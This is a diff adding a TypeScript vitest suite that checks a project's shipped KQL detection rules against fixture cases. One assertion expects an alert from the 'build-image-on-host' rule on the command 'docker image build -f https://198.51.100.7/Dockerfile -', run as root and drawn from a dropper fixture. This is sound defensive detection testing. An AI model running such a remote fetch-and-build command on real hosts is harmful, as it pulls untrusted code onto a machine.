@@ -1,0 +1,78 @@
+import { readdirSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { compile } from '../kql/index.js';
+import { microsoftSchema } from '../kql/microsoft-schema.js';
+import { openMemory } from '../store/duckdb.js';
+import type { Writer } from '../store/store.js';
+import { loadCases, type RuleCase, runCase } from './cases.js';
+import { shippedRules } from './shipped.js';
+
+const all = shippedRules.flatMap((rule) =>
+  loadCases(join('detections', rule.id)).map((found) => ({
+    rule,
+    found,
+    name: `${rule.id} ${found.name}`,
+  })),
+);
+
+/** Whether a rule raises the number of alerts that a case expects, however its rows are cut into batches. */
+async function holds(rule: (typeof shippedRules)[number], found: RuleCase): Promise<void> {
+  for (const size of [found.rows.length, 1, 2]) {
+    const writer = await openMemory();
+    try {
+      const alerts = await runCase(rule, found, writer, size);
+      expect(
+        alerts.length,
+        `${size} rows to a batch: ${JSON.stringify(alerts.map(({ Detail }) => Detail))}`,
+      ).toBe(found.expected);
+    } finally {
+      await writer.close();
+    }
+  }
+}
+
+describe('shipped rules', () => {
+  let writer: Writer;
+  beforeEach(async () => {
+    writer = await openMemory();
+  });
+  afterEach(() => writer.close());
+
+  it('are the directories under detections/', () => {
+    const directories = readdirSync('detections').sort();
+    expect(shippedRules.map(({ id }) => id)).toEqual(directories);
+    expect(shippedRules.every(({ mode }) => mode === 'batch')).toBe(true);
+  });
+
+  it.each(all)('$name', ({ rule, found }) => holds(rule, found));
+
+  it('fail on a count that is wrong by one', async () => {
+    const [first] = all;
+    if (!first) throw new Error('no case');
+    const wrong = { ...first.found, expected: first.found.expected + 1 };
+    await expect(holds(first.rule, wrong)).rejects.toThrow('rows to a batch');
+  });
+
+  it('build-image-on-host binds on the tables as Microsoft publishes them', () => {
+    const text = readFileSync('detections/build-image-on-host/query.kql', 'utf8');
+    expect(compile(text, { catalog: microsoftSchema })).toHaveProperty('query');
+  });
+
+  it('raise alerts that say what was found, with the whole row', async () => {
+    const found = all.find(({ name }) => name.endsWith('dropper-in-tmp.ndjson'));
+    if (!found) throw new Error('no such case');
+    const alerts = await runCase(found.rule, found.found, writer);
+    expect(alerts.find(({ RiskScore }) => RiskScore === 4)).toMatchObject({
+      RuleId: 'build-image-on-host',
+      Severity: 'High',
+      Techniques: ['T1612'],
+      DeviceName: 'build-host',
+      AccountName: 'root',
+      Detail: 'docker image build -f https://198.51.100.7/Dockerfile -',
+      RiskScore: 4,
+      ResultRow: { ProcessId: 4200, RemoteIP: '' },
+    });
+    expect(new Set(alerts.map(({ AlertId }) => AlertId)).size).toBe(4);
+  });
+});
